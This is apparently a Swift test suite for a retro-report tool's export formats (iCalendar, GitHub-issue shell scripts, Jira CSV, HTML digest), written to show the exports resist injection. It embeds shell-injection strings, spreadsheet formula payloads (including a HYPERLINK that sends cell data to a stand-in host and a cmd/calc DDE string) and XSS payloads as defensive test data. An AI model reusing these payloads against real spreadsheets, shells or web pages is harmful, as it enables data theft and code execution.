import Foundation
import Testing

/// The export formats of `retro actions`: golden files, and each file checked by the kind of
/// program that reads it (an iCalendar parser, the shell, a CSV reader).
@Suite("retro actions exports: ics, gh-issues, jira-csv", .serialized)
struct ExportFormatTests {
  static func export(_ format: String) throws -> (URL, String) {
    let directory = try IndexCommandTests.workspace()
    let result = try IndexCommandTests.run(["actions", "retros", "--status", "all", "--format", format], in: directory)
    #expect(result.status == 0, "\(result.stderr)")
    return (directory, result.stdout)
  }

  /// Runs Debian's python3 (where scripts/setup.sh installs python3-icalendar) on `input`.
  static func python(_ script: String, input: String) throws -> RetroBinary.Result {
    try RetroBinary.run(["-c", script], stdin: input, executable: URL(fileURLWithPath: "/usr/bin/python3"))
  }

  /// Runs a gh-issues `script` with `sh` in `directory`, with `gh` on the PATH a stand-in
  /// shell script whose body is `gh`.
  static func runWithStandInGH(_ script: String, gh: String, in directory: URL, environment: [String: String] = [:]) throws
    -> RetroBinary.Result
  {
    let bin = directory.appendingPathComponent("bin")
    try FileManager.default.createDirectory(at: bin, withIntermediateDirectories: true)
    let stand = bin.appendingPathComponent("gh")
    try ("#!/bin/sh\n" + gh).write(to: stand, atomically: true, encoding: .utf8)
    try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: stand.path)
    let file = directory.appendingPathComponent("issues.sh")
    try script.write(to: file, atomically: true, encoding: .utf8)
    var environment = environment
    environment["PATH"] = bin.path + ":/usr/bin:/bin"
    return try RetroBinary.run([file.path], in: directory, environment: environment, executable: URL(fileURLWithPath: "/bin/sh"))
  }

  static let hasICalendar: Bool =
    FileManager.default.isExecutableFile(atPath: "/usr/bin/python3") && (try? python("import icalendar", input: ""))?.status == 0

  @Test("ics matches its golden file and a real iCalendar parser reads every event", .enabled(if: hasICalendar, "needs python3-icalendar (scripts/setup.sh --test installs it)"))
  func ics() throws {
    let (directory, output) = try Self.export("ics")
    defer { try? FileManager.default.removeItem(at: directory) }
    try IndexCommandTests.expectGolden(output, "actions.ics")
    #expect(output.contains("\r\n"))
    let check = try Self.python(
      """
      import sys, icalendar
      calendar = icalendar.Calendar.from_ical(sys.stdin.buffer.read())
      for event in calendar.walk('VEVENT'):
          print(event['UID'], event['DTSTART'].dt.isoformat(), event['SUMMARY'])
      """, input: output)
    #expect(check.status == 0, "\(check.stderr)")
    let events = check.stdout.split(separator: "\n")
    // The three open items with a due date, all-day, on their due dates.
    #expect(events.count == 3)
    #expect(events.contains { $0.contains("2024-01-20 Alert on consumer lag @ben due 2024-01-20") })
    #expect(Set(events.map { $0.split(separator: " ")[0] }).count == 3, "UIDs are unique")
  }

  @Test("gh-issues matches its golden file, is valid shell, and passes each value to gh exactly")
  func ghIssues() throws {
    let (directory, output) = try Self.export("gh-issues")
    defer { try? FileManager.default.removeItem(at: directory) }
    try IndexCommandTests.expectGolden(output, "actions.gh-issues")
    // A stand-in `gh` that records its arguments, one per line, NUL between calls.
    let record = directory.appendingPathComponent("record.txt")
    let run = try Self.runWithStandInGH(
      output, gh: "for a in \"$@\"; do printf '%s\\n' \"$a\"; done >> \"$RECORD\"; printf '\\0\\n' >> \"$RECORD\"\n", in: directory,
      environment: ["RECORD": record.path])
    #expect(run.status == 0, "\(run.stderr)")
    let calls = try String(contentsOf: record, encoding: .utf8).components(separatedBy: "\0\n").filter { !$0.isEmpty }
    // Open items without a ticket: the lag alert (owner @ben) and the batch window.
    #expect(calls.count == 2)
    // One argument a line; the body's blank lines are kept, the record's last newline is not.
    let first = calls[0].split(separator: "\n", omittingEmptySubsequences: false).dropLast().map(String.init)
    #expect(Array(first.prefix(3)) == ["issue", "create", "--title"])
    #expect(first[3] == "Alert on consumer lag @ben due 2024-01-20")
    #expect(first.contains("--assignee") && first.last == "ben")
    #expect(calls[1].contains("Document the batch window"))
  }

  @Test("a hostile item text stays one argument: quotes, $( ), backquotes and control characters")
  func hostileText() throws {
    let directory = try IndexCommandTests.workspace()
    defer { try? FileManager.default.removeItem(at: directory) }
    let text = "## Action items\n\n- [ ] Fix it'; touch pwned; echo '$(touch pwned2) `touch pwned3` \u{1B}[2K @eve\n"
    try text.write(to: directory.appendingPathComponent("retros/2024-02-02-evil.md"), atomically: true, encoding: .utf8)
    let result = try IndexCommandTests.run(["actions", "retros", "--format", "gh-issues"], in: directory)
    #expect(!result.stdout.contains("\u{1B}"))
    let run = try Self.runWithStandInGH(result.stdout, gh: "exit 0\n", in: directory)
    #expect(run.status == 0, "\(run.stderr)")
    for name in ["pwned", "pwned2", "pwned3"] {
      #expect(!FileManager.default.fileExists(atPath: directory.appendingPathComponent(name).path), "\(name) was created")
    }
  }

  @Test("gh-issues passes an item over 128 KiB and shell-hostile text to gh exactly, and one failing item does not stop the rest")
  func ghIssuesLongAndHostile() throws {
    let directory = try IndexCommandTests.workspace()
    defer { try? FileManager.default.removeItem(at: directory) }
    // Lines a here-document could end on, and everything a shell would expand (in the item a
    // lone backquote, since a pair is a Markdown code span).
    let hostile = "it's \"quoted\" $(touch pwned) `touch pwned2 ${HOME} \\ 'EOF' <<EOF %s %n"
    let long = "Rotate " + hostile + String(repeating: " the keys", count: 16_000)  // 144 KB
    let title = "Lines\nEOF\nRETRO\nRETRO_ISSUE_BODY\n'EOF'\n$(touch pwned3)\n`touch pwned4`"
    let report = """
      ---
      title: \(try Self.jsonString(title))
      date: 2024-02-02
      ---

      ## Action items

      - [ ] \(long)
      - [ ] FAIL this one @eve
      - [ ] Short \(hostile) @eve

      """
    #expect(long.utf8.count > 128 * 1024)
    try report.write(to: directory.appendingPathComponent("retros/2024-02-02-evil.md"), atomically: true, encoding: .utf8)
    let result = try IndexCommandTests.run(["actions", "retros", "--format", "gh-issues"], in: directory)
    #expect(result.status == 0, "\(result.stderr)")
    // The stand-in records each call's arguments (NUL after each) and its standard input; an
    // issue titled FAIL… fails, as gh does when GitHub refuses one.
    let calls = directory.appendingPathComponent("calls")
    try FileManager.default.createDirectory(at: calls, withIntermediateDirectories: true)
    let run = try Self.runWithStandInGH(
      result.stdout,
      gh: """
        n=$(( $(ls "$CALLS" | wc -l) / 2 ))
        for a in "$@"; do printf '%s\\0' "$a"; done > "$CALLS/$n.args"
        cat > "$CALLS/$n.body"
        case "$4" in FAIL*) exit 1;; esac

        """, in: directory, environment: ["CALLS": calls.path])
    for name in ["pwned", "pwned2", "pwned3", "pwned4"] {
      #expect(!FileManager.default.fileExists(atPath: directory.appendingPathComponent(name).path), "\(name) was created")
    }
    // Two items of the fixtures and the three here: every one was tried, and the failure
    // is reported, by location, with a non-zero exit.
    let count = try FileManager.default.contentsOfDirectory(atPath: calls.path).count / 2
    #expect(count == 5)
    #expect(run.status != 0)
    #expect(run.stderr.contains("retros/2024-02-02-evil.md:9"), "\(run.stderr)")
    var byTitle: [String: (arguments: [String], body: String)] = [:]
    for call in 0..<count {
      let arguments = try String(contentsOf: calls.appendingPathComponent("\(call).args"), encoding: .utf8)
        .split(separator: "\0", omittingEmptySubsequences: false).dropLast().map(String.init)
      let body = try String(contentsOf: calls.appendingPathComponent("\(call).body"), encoding: .utf8)
      byTitle[arguments[3]] = (arguments, body)
    }
    // The short item's title is its text, exactly; the long one's is cut to GitHub's 256
    // characters and the whole text is in the body.
    let short = try #require(byTitle["Short \(hostile) @eve"])
    #expect(short.body.contains(title), "the report title, with its EOF lines, reaches the body exactly")
    let cut = try #require(byTitle.first { $0.key.hasPrefix("Rotate ") })
    #expect(cut.key.count <= 256)
    #expect(cut.key.hasPrefix("Rotate " + hostile))
    #expect(cut.value.body.contains(long))
    #expect(cut.value.body.contains(title))
  }

  /// `value` as a JSON string, which is also a YAML double-quoted scalar.
  static func jsonString(_ value: String) throws -> String {
    String(decoding: try JSONSerialization.data(withJSONObject: [value], options: [.fragmentsAllowed]), as: UTF8.self).dropFirst().dropLast()
      .description
  }

  @Test("jira-csv matches its golden file and reads as CSV with Jira's columns", .enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/python3")))
  func jiraCSV() throws {
    let (directory, output) = try Self.export("jira-csv")
    defer { try? FileManager.default.removeItem(at: directory) }
    try IndexCommandTests.expectGolden(output, "actions.jira-csv")
    let check = try Self.python(
      "import sys, csv\nrows = list(csv.DictReader(sys.stdin))\nprint(len(rows)); print(rows[0]['Summary']); print(rows[0]['Assignee']); print(rows[0]['Due Date'])",
      input: output)
    #expect(check.status == 0, "\(check.stderr)")
    #expect(check.stdout == "2\nAlert on consumer lag @ben due 2024-01-20\nben\n2024-01-20\n")
  }

  /// Item texts a spreadsheet would run as formulas (OWASP's CSV injection).
  static let formulaItems = [
    "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd",
  ]

  @Test("no cell of csv or jira-csv starts a formula: = + - @ are prefixed with a quote, the text kept after it", .enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/python3")), arguments: ["csv", "jira-csv"])
  func formulaCells(_ format: String) throws {
    let directory = try IndexCommandTests.workspace()
    defer { try? FileManager.default.removeItem(at: directory) }
    let text = "## Action items\n\n" + Self.formulaItems.map { "- [ ] \($0)\n" }.joined()
    try text.write(to: directory.appendingPathComponent("retros/2024-02-02-evil.md"), atomically: true, encoding: .utf8)
    let result = try IndexCommandTests.run(["actions", "retros", "--format", format], in: directory)
    #expect(result.status == 0, "\(result.stderr)")
    // Every cell, NUL after each, as Python's CSV reader reads them.
    let check = try Self.python(
      "import sys, csv\nfor row in csv.reader(sys.stdin):\n    for cell in row: sys.stdout.write(cell + '\\0')", input: result.stdout)
    #expect(check.status == 0, "\(check.stderr)")
    let cells = check.stdout.split(separator: "\0", omittingEmptySubsequences: false).map(String.init)
    for cell in cells {
      #expect(!["=", "+", "-", "@", "\t", "\r"].contains(where: { cell.hasPrefix($0) }), "\(cell) starts a formula")
    }
    for item in Self.formulaItems {
      #expect(cells.contains("'" + item), "\(item) is not kept after its quote")
    }
    // Numbers stay numbers: the age column is not quoted.
    if format == "csv" { #expect(result.stdout.contains(",60,open,")) }
  }

  @Test("digest --format html matches its golden file; report text in it is escaped, never markup")
  func digestHTML() throws {
    let directory = try IndexCommandTests.workspace()
    defer { try? FileManager.default.removeItem(at: directory) }
    let golden = try IndexCommandTests.run(["digest", "retros", "--format", "html"], in: directory)
    #expect(golden.status == 0, "\(golden.stderr)")
    try IndexCommandTests.expectGolden(golden.stdout, "digest.html")
    let text = "## Action items\n\n- [ ] <script>alert(1)</script> 1 < 2 & \"3\" \u{1B}[2K fix @<img src=x onerror=alert(2)> due 2024-03-12\n"
    try text.write(to: directory.appendingPathComponent("retros/2024-03-01-evil.md"), atomically: true, encoding: .utf8)
    let result = try IndexCommandTests.run(["digest", "retros", "--format", "html"], in: directory)
    #expect(!result.stdout.contains("<script"))
    #expect(!result.stdout.contains("<img"))
    // Inline HTML never reaches an item's text; what does (`1 < 2 & "3"`) is escaped.
    #expect(result.stdout.contains("1 &lt; 2 &amp; &quot;3&quot;"))
    #expect(!result.stdout.contains("\u{1B}"))
  }

  @Test("digest --since lists each owner's new items and counts closures from that day; 7d and a date agree")
  func digestSince() throws {
    let directory = try IndexCommandTests.workspace()
    defer { try? FileManager.default.removeItem(at: directory) }
    let byDate = try IndexCommandTests.run(["digest", "retros", "--since", "2024-03-03"], in: directory)
    #expect(byDate.status == 0, "\(byDate.stderr)")
    try IndexCommandTests.expectGolden(byDate.stdout, "digest-since.md")
    #expect(byDate.stdout.contains("**New since 2024-03-03**"))
    // The as-of date is 2024-03-10: 7d is the same day.
    #expect(try IndexCommandTests.run(["digest", "retros", "--since", "7d"], in: directory).stdout == byDate.stdout)
    let json = try IndexCommandTests.run(["digest", "retros", "--since", "7d", "--format", "json"], in: directory)
    let object = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
    #expect(object["since"] as? String == "2024-03-03")
    // Without --since the digest has no "new" lists at all.
    let plain = try IndexCommandTests.run(["digest", "retros", "--format", "json"], in: directory)
    #expect(!plain.stdout.contains("opened"))
    let bad = try IndexCommandTests.run(["digest", "retros", "--since", "soon"], in: directory)
    #expect(bad.status != 0 && bad.stderr.contains("--since must be"))
  }
}

/// Tickets both ways: an export, the tracker makes the tickets, `retro tickets` writes them
/// back into the reports, and the next export leaves those items out.
@Suite("Tickets round trip: gh-issues and jira-csv, end to end", .serialized)
struct TicketRoundTripTests {
  @Test("gh-issues records each URL gh prints, writes it into the item's line with retro tickets, and a second run creates nothing")
  func github() throws {
    let directory = try IndexCommandTests.workspace()
    defer { try? FileManager.default.removeItem(at: directory) }
    try TestGit.run(["init", "-q", "-b", "main"], in: directory)
    try TestGit.run(["config", "remote.origin.url", "git@github.com:acme/ops.git"], in: directory)
    let script = try IndexCommandTests.run(["actions", "retros", "--format", "gh-issues"], in: directory)
    #expect(script.stdout.contains("(https://github.com/acme/ops/blob/main/retros/2024-01-10-queue-backlog.md#L21)"), "the back-link is absolute")
    // `retro` on the PATH beside the stand-in gh, which prints an issue URL as gh does.
    let bin = directory.appendingPathComponent("bin")
    try FileManager.default.createDirectory(at: bin, withIntermediateDirectories: true)
    try FileManager.default.createSymbolicLink(at: bin.appendingPathComponent("retro"), withDestinationURL: RetroBinary.executable)
    let gh = """
      cat > /dev/null
      n=$(( $(cat "$COUNT" 2>/dev/null || echo 0) + 1 )); echo $n > "$COUNT"
      echo "Creating issue in acme/ops"
      echo "https://github.com/acme/ops/issues/$((100 + n))"

      """
    let count = directory.appendingPathComponent("count")
    let run = try ExportFormatTests.runWithStandInGH(
      script.stdout, gh: gh, in: directory, environment: ["COUNT": count.path, "XDG_CACHE_HOME": directory.appendingPathComponent("cache").path])
    #expect(run.status == 0, "\(run.stderr)")
    let record = try String(contentsOf: directory.appendingPathComponent("retro-created-issues.tsv"), encoding: .utf8)
    #expect(record.split(separator: "\n").count == 2)
    #expect(record.contains("\tretros/2024-01-10-queue-backlog.md\thttps://github.com/acme/ops/issues/101\n"))
    let report = try String(contentsOf: directory.appendingPathComponent("retros/2024-01-10-queue-backlog.md"), encoding: .utf8)
    #expect(report.contains("- [ ] Alert on consumer lag @ben due 2024-01-20 <https://github.com/acme/ops/issues/101>"))
    #expect(report.contains("- [ ] Document the batch window <https://github.com/acme/ops/issues/102>"))
    // The next export has nothing to create; the old script run again creates nothing twice.
    let next = try IndexCommandTests.run(["actions", "retros", "--format", "gh-issues"], in: directory)
    #expect(!next.stdout.contains("gh issue create"))
    let again = try ExportFormatTests.runWithStandInGH(
      script.stdout, gh: gh, in: directory, environment: ["COUNT": count.path, "XDG_CACHE_HOME": directory.appendingPathComponent("cache").path])
    #expect(again.status == 0, "\(again.stderr)")
    #expect(try String(contentsOf: count, encoding: .utf8) == "2\n", "no issue was created twice")
    #expect(again.stderr.contains("is already in retros/2024-01-10-queue-backlog.md:21"))
  }

  @Test("a Jira export of the imported jira-csv writes each key into its item; --dry-run only prints the diff")
  func jira() throws {
    let directory = try IndexCommandTests.workspace()
    defer { try? FileManager.default.removeItem(at: directory) }
    let export = try IndexCommandTests.run(["actions", "retros", "--format", "jira-csv"], in: directory)
    // What Jira's "Export CSV (all fields)" gives after the import: a key per row, the
    // description as imported, other columns around them.
    let check = try ExportFormatTests.python(
      """
      import sys, csv
      rows = list(csv.DictReader(sys.stdin))
      out = csv.writer(sys.stdout)
      out.writerow(['Summary', 'Issue key', 'Issue id', 'Status', 'Description'])
      for n, row in enumerate(rows):
          out.writerow([row['Summary'], 'OPS-%d' % (500 + n), str(10000 + n), 'To Do', row['Description']])
      """, input: export.stdout)
    #expect(check.status == 0, "\(check.stderr)")
    let jira = directory.appendingPathComponent("jira-export.csv")
    try check.stdout.write(to: jira, atomically: true, encoding: .utf8)
    let path = directory.appendingPathComponent("retros/2024-01-10-queue-backlog.md")
    let before = try String(contentsOf: path, encoding: .utf8)
    let dry = try RetroBinary.run(["tickets", jira.path, "--reports", "retros", "--index", "index.sqlite", "--dry-run"], in: directory)
    #expect(dry.status == 0, "\(dry.stderr)")
    #expect(dry.stdout.contains("+- [ ] Document the batch window OPS-501"), "\(dry.stdout)")
    #expect(try String(contentsOf: path, encoding: .utf8) == before)
    let wrote = try RetroBinary.run(["tickets", jira.path, "--reports", "retros", "--index", "index.sqlite"], in: directory)
    #expect(wrote.status == 0, "\(wrote.stderr)")
    #expect(wrote.stderr.contains("retro: wrote 2 tickets into the reports; 0 not matched"))
    let after = try String(contentsOf: path, encoding: .utf8)
    #expect(after.contains("- [ ] Alert on consumer lag @ben due 2024-01-20 OPS-500"))
    let next = try IndexCommandTests.run(["actions", "retros", "--format", "jira-csv"], in: directory)
    #expect(next.stdout.split(separator: "\n").count == 1, "only the header: every item has its ticket")
    // An id no report has is named, and exit 1.
    try "deadbeef00\tretros/x.md\thttps://github.com/acme/ops/issues/9\n".write(
      to: directory.appendingPathComponent("stale.tsv"), atomically: true, encoding: .utf8)
    let stale = try RetroBinary.run(["tickets", "stale.tsv", "--reports", "retros", "--index", "index.sqlite"], in: directory)
    #expect(stale.status == 1)
    #expect(stale.stderr.contains("stale.tsv:1: https://github.com/acme/ops/issues/9 not written: no action item has this retro id"))
  }
}
